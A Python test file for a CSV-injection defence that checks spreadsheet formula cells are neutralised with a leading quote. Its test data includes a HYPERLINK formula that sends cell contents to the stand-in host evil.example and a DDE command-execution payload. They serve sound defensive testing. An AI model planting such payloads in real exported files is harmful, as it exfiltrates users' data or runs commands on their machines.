"""Every CSV the product writes is read by spreadsheets as data, never as a formula (OWASP
"CSV Injection"): a text cell that starts with =, +, -, @, a tab or a carriage return gets a
leading single quote."""

import csv
import io

import pytest

from common.csvsafe import safe_cell, writer

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,1)", "'@SUM(1,1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("a=1", "a=1"),  # only the first character counts
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        (3, 3),  # numbers we write are numbers, never formulas
        (-1.5, -1.5),
        ("2026-12-06T08:00:00Z", "2026-12-06T08:00:00Z"),
    ],
)
def test_a_cell_that_would_start_a_formula_is_quoted(value, written):
    assert safe_cell(value) == written


def test_the_writer_neutralises_every_row_and_csv_quoting_still_applies():
    out = io.StringIO()
    sheet = writer(out)
    sheet.writerow(["detail", "n"])
    sheet.writerows([[HYPERLINK, 1], ['say "hi", =again', 2]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["detail", "n"], ["'" + HYPERLINK, "1"], ['say "hi", =again', "2"]]


def test_no_other_module_writes_csv_itself():
    """One writer for every CSV the product writes: the csv module is imported only here."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    apps = ("accounts", "applications", "cameras", "common", "config", "monitoring")
    users = [
        str(path.relative_to(root))
        for app in apps
        for path in (root / app).rglob("*.py")
        if any(
            line.strip().startswith(("import csv", "from csv "))
            for line in path.read_text().splitlines()
        )
    ]
    assert users == ["common/csvsafe.py"]
